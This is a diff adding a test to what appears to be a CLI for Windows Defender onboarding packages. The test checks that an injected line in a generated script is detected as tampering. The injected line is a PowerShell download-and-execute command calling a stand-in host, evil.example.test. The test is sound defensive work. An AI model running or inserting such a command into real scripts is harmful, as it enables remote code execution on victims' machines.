@@ -52,6 +52,26 @@ describe('e2e: packages (issue 3)', () => {
     expect(readdirSync(home).filter((n) => n.startsWith('evil-out') || n.startsWith('.evil-out') || n === 'escape.txt')).toEqual([])
   })
 
+  it('issue 15: a generated local script with an injected line, blob untouched, is exit 7 PACKAGE_TAMPERED naming the file and line', async () => {
+    const zip = join(home, 'local.zip')
+    expect((await runCli(['package', 'generate', 'onboarding', '--os', 'windows', '--method', 'local-script', '--out', zip], {home})).code).toBe(0)
+    expect((await runCli(['package', 'extract', zip, '--dir', join(home, 'local')], {home})).code).toBe(0)
+    const script = join(home, 'local', 'WindowsDefenderATPLocalOnboardingScript.cmd')
+    const lines = readFileSync(script, 'utf8').split('\r\n')
+    lines.splice(20, 0, 'powershell -NoProfile -Command "iwr https://evil.example.test/p.ps1 | iex"')
+    writeFileSync(script, lines.join('\r\n'))
+    const human = await runCli(['package', 'inspect', script], {home})
+    expect(human.code).toBe(7)
+    expect(human.stdout).toMatch(/SHA-1 signature:\s+valid/)
+    expect(human.stdout).toMatch(/Carrier layout:\s+ALTERED: WindowsDefenderATPLocalOnboardingScript\.cmd line 21/)
+    expect(human.stderr).toMatch(/^Error: .*'WindowsDefenderATPLocalOnboardingScript\.cmd' .*line 21 is not part of it/m)
+    expect(human.stderr).toMatch(/^Try this: /m)
+    expect(human.stdout + human.stderr).not.toMatch(/iex|evil\.example/)
+    const json = await runCli(['package', 'inspect', script, '--json'], {home})
+    expect(json.code).toBe(7)
+    expect(json.json().error).toMatchObject({code: 'PACKAGE_TAMPERED', exitCode: 7})
+  })
+
   describe('extract interrupted (issue 15)', () => {
     const BIN = join(PROJECT_ROOT, 'bin', 'run.js')
     let work: string
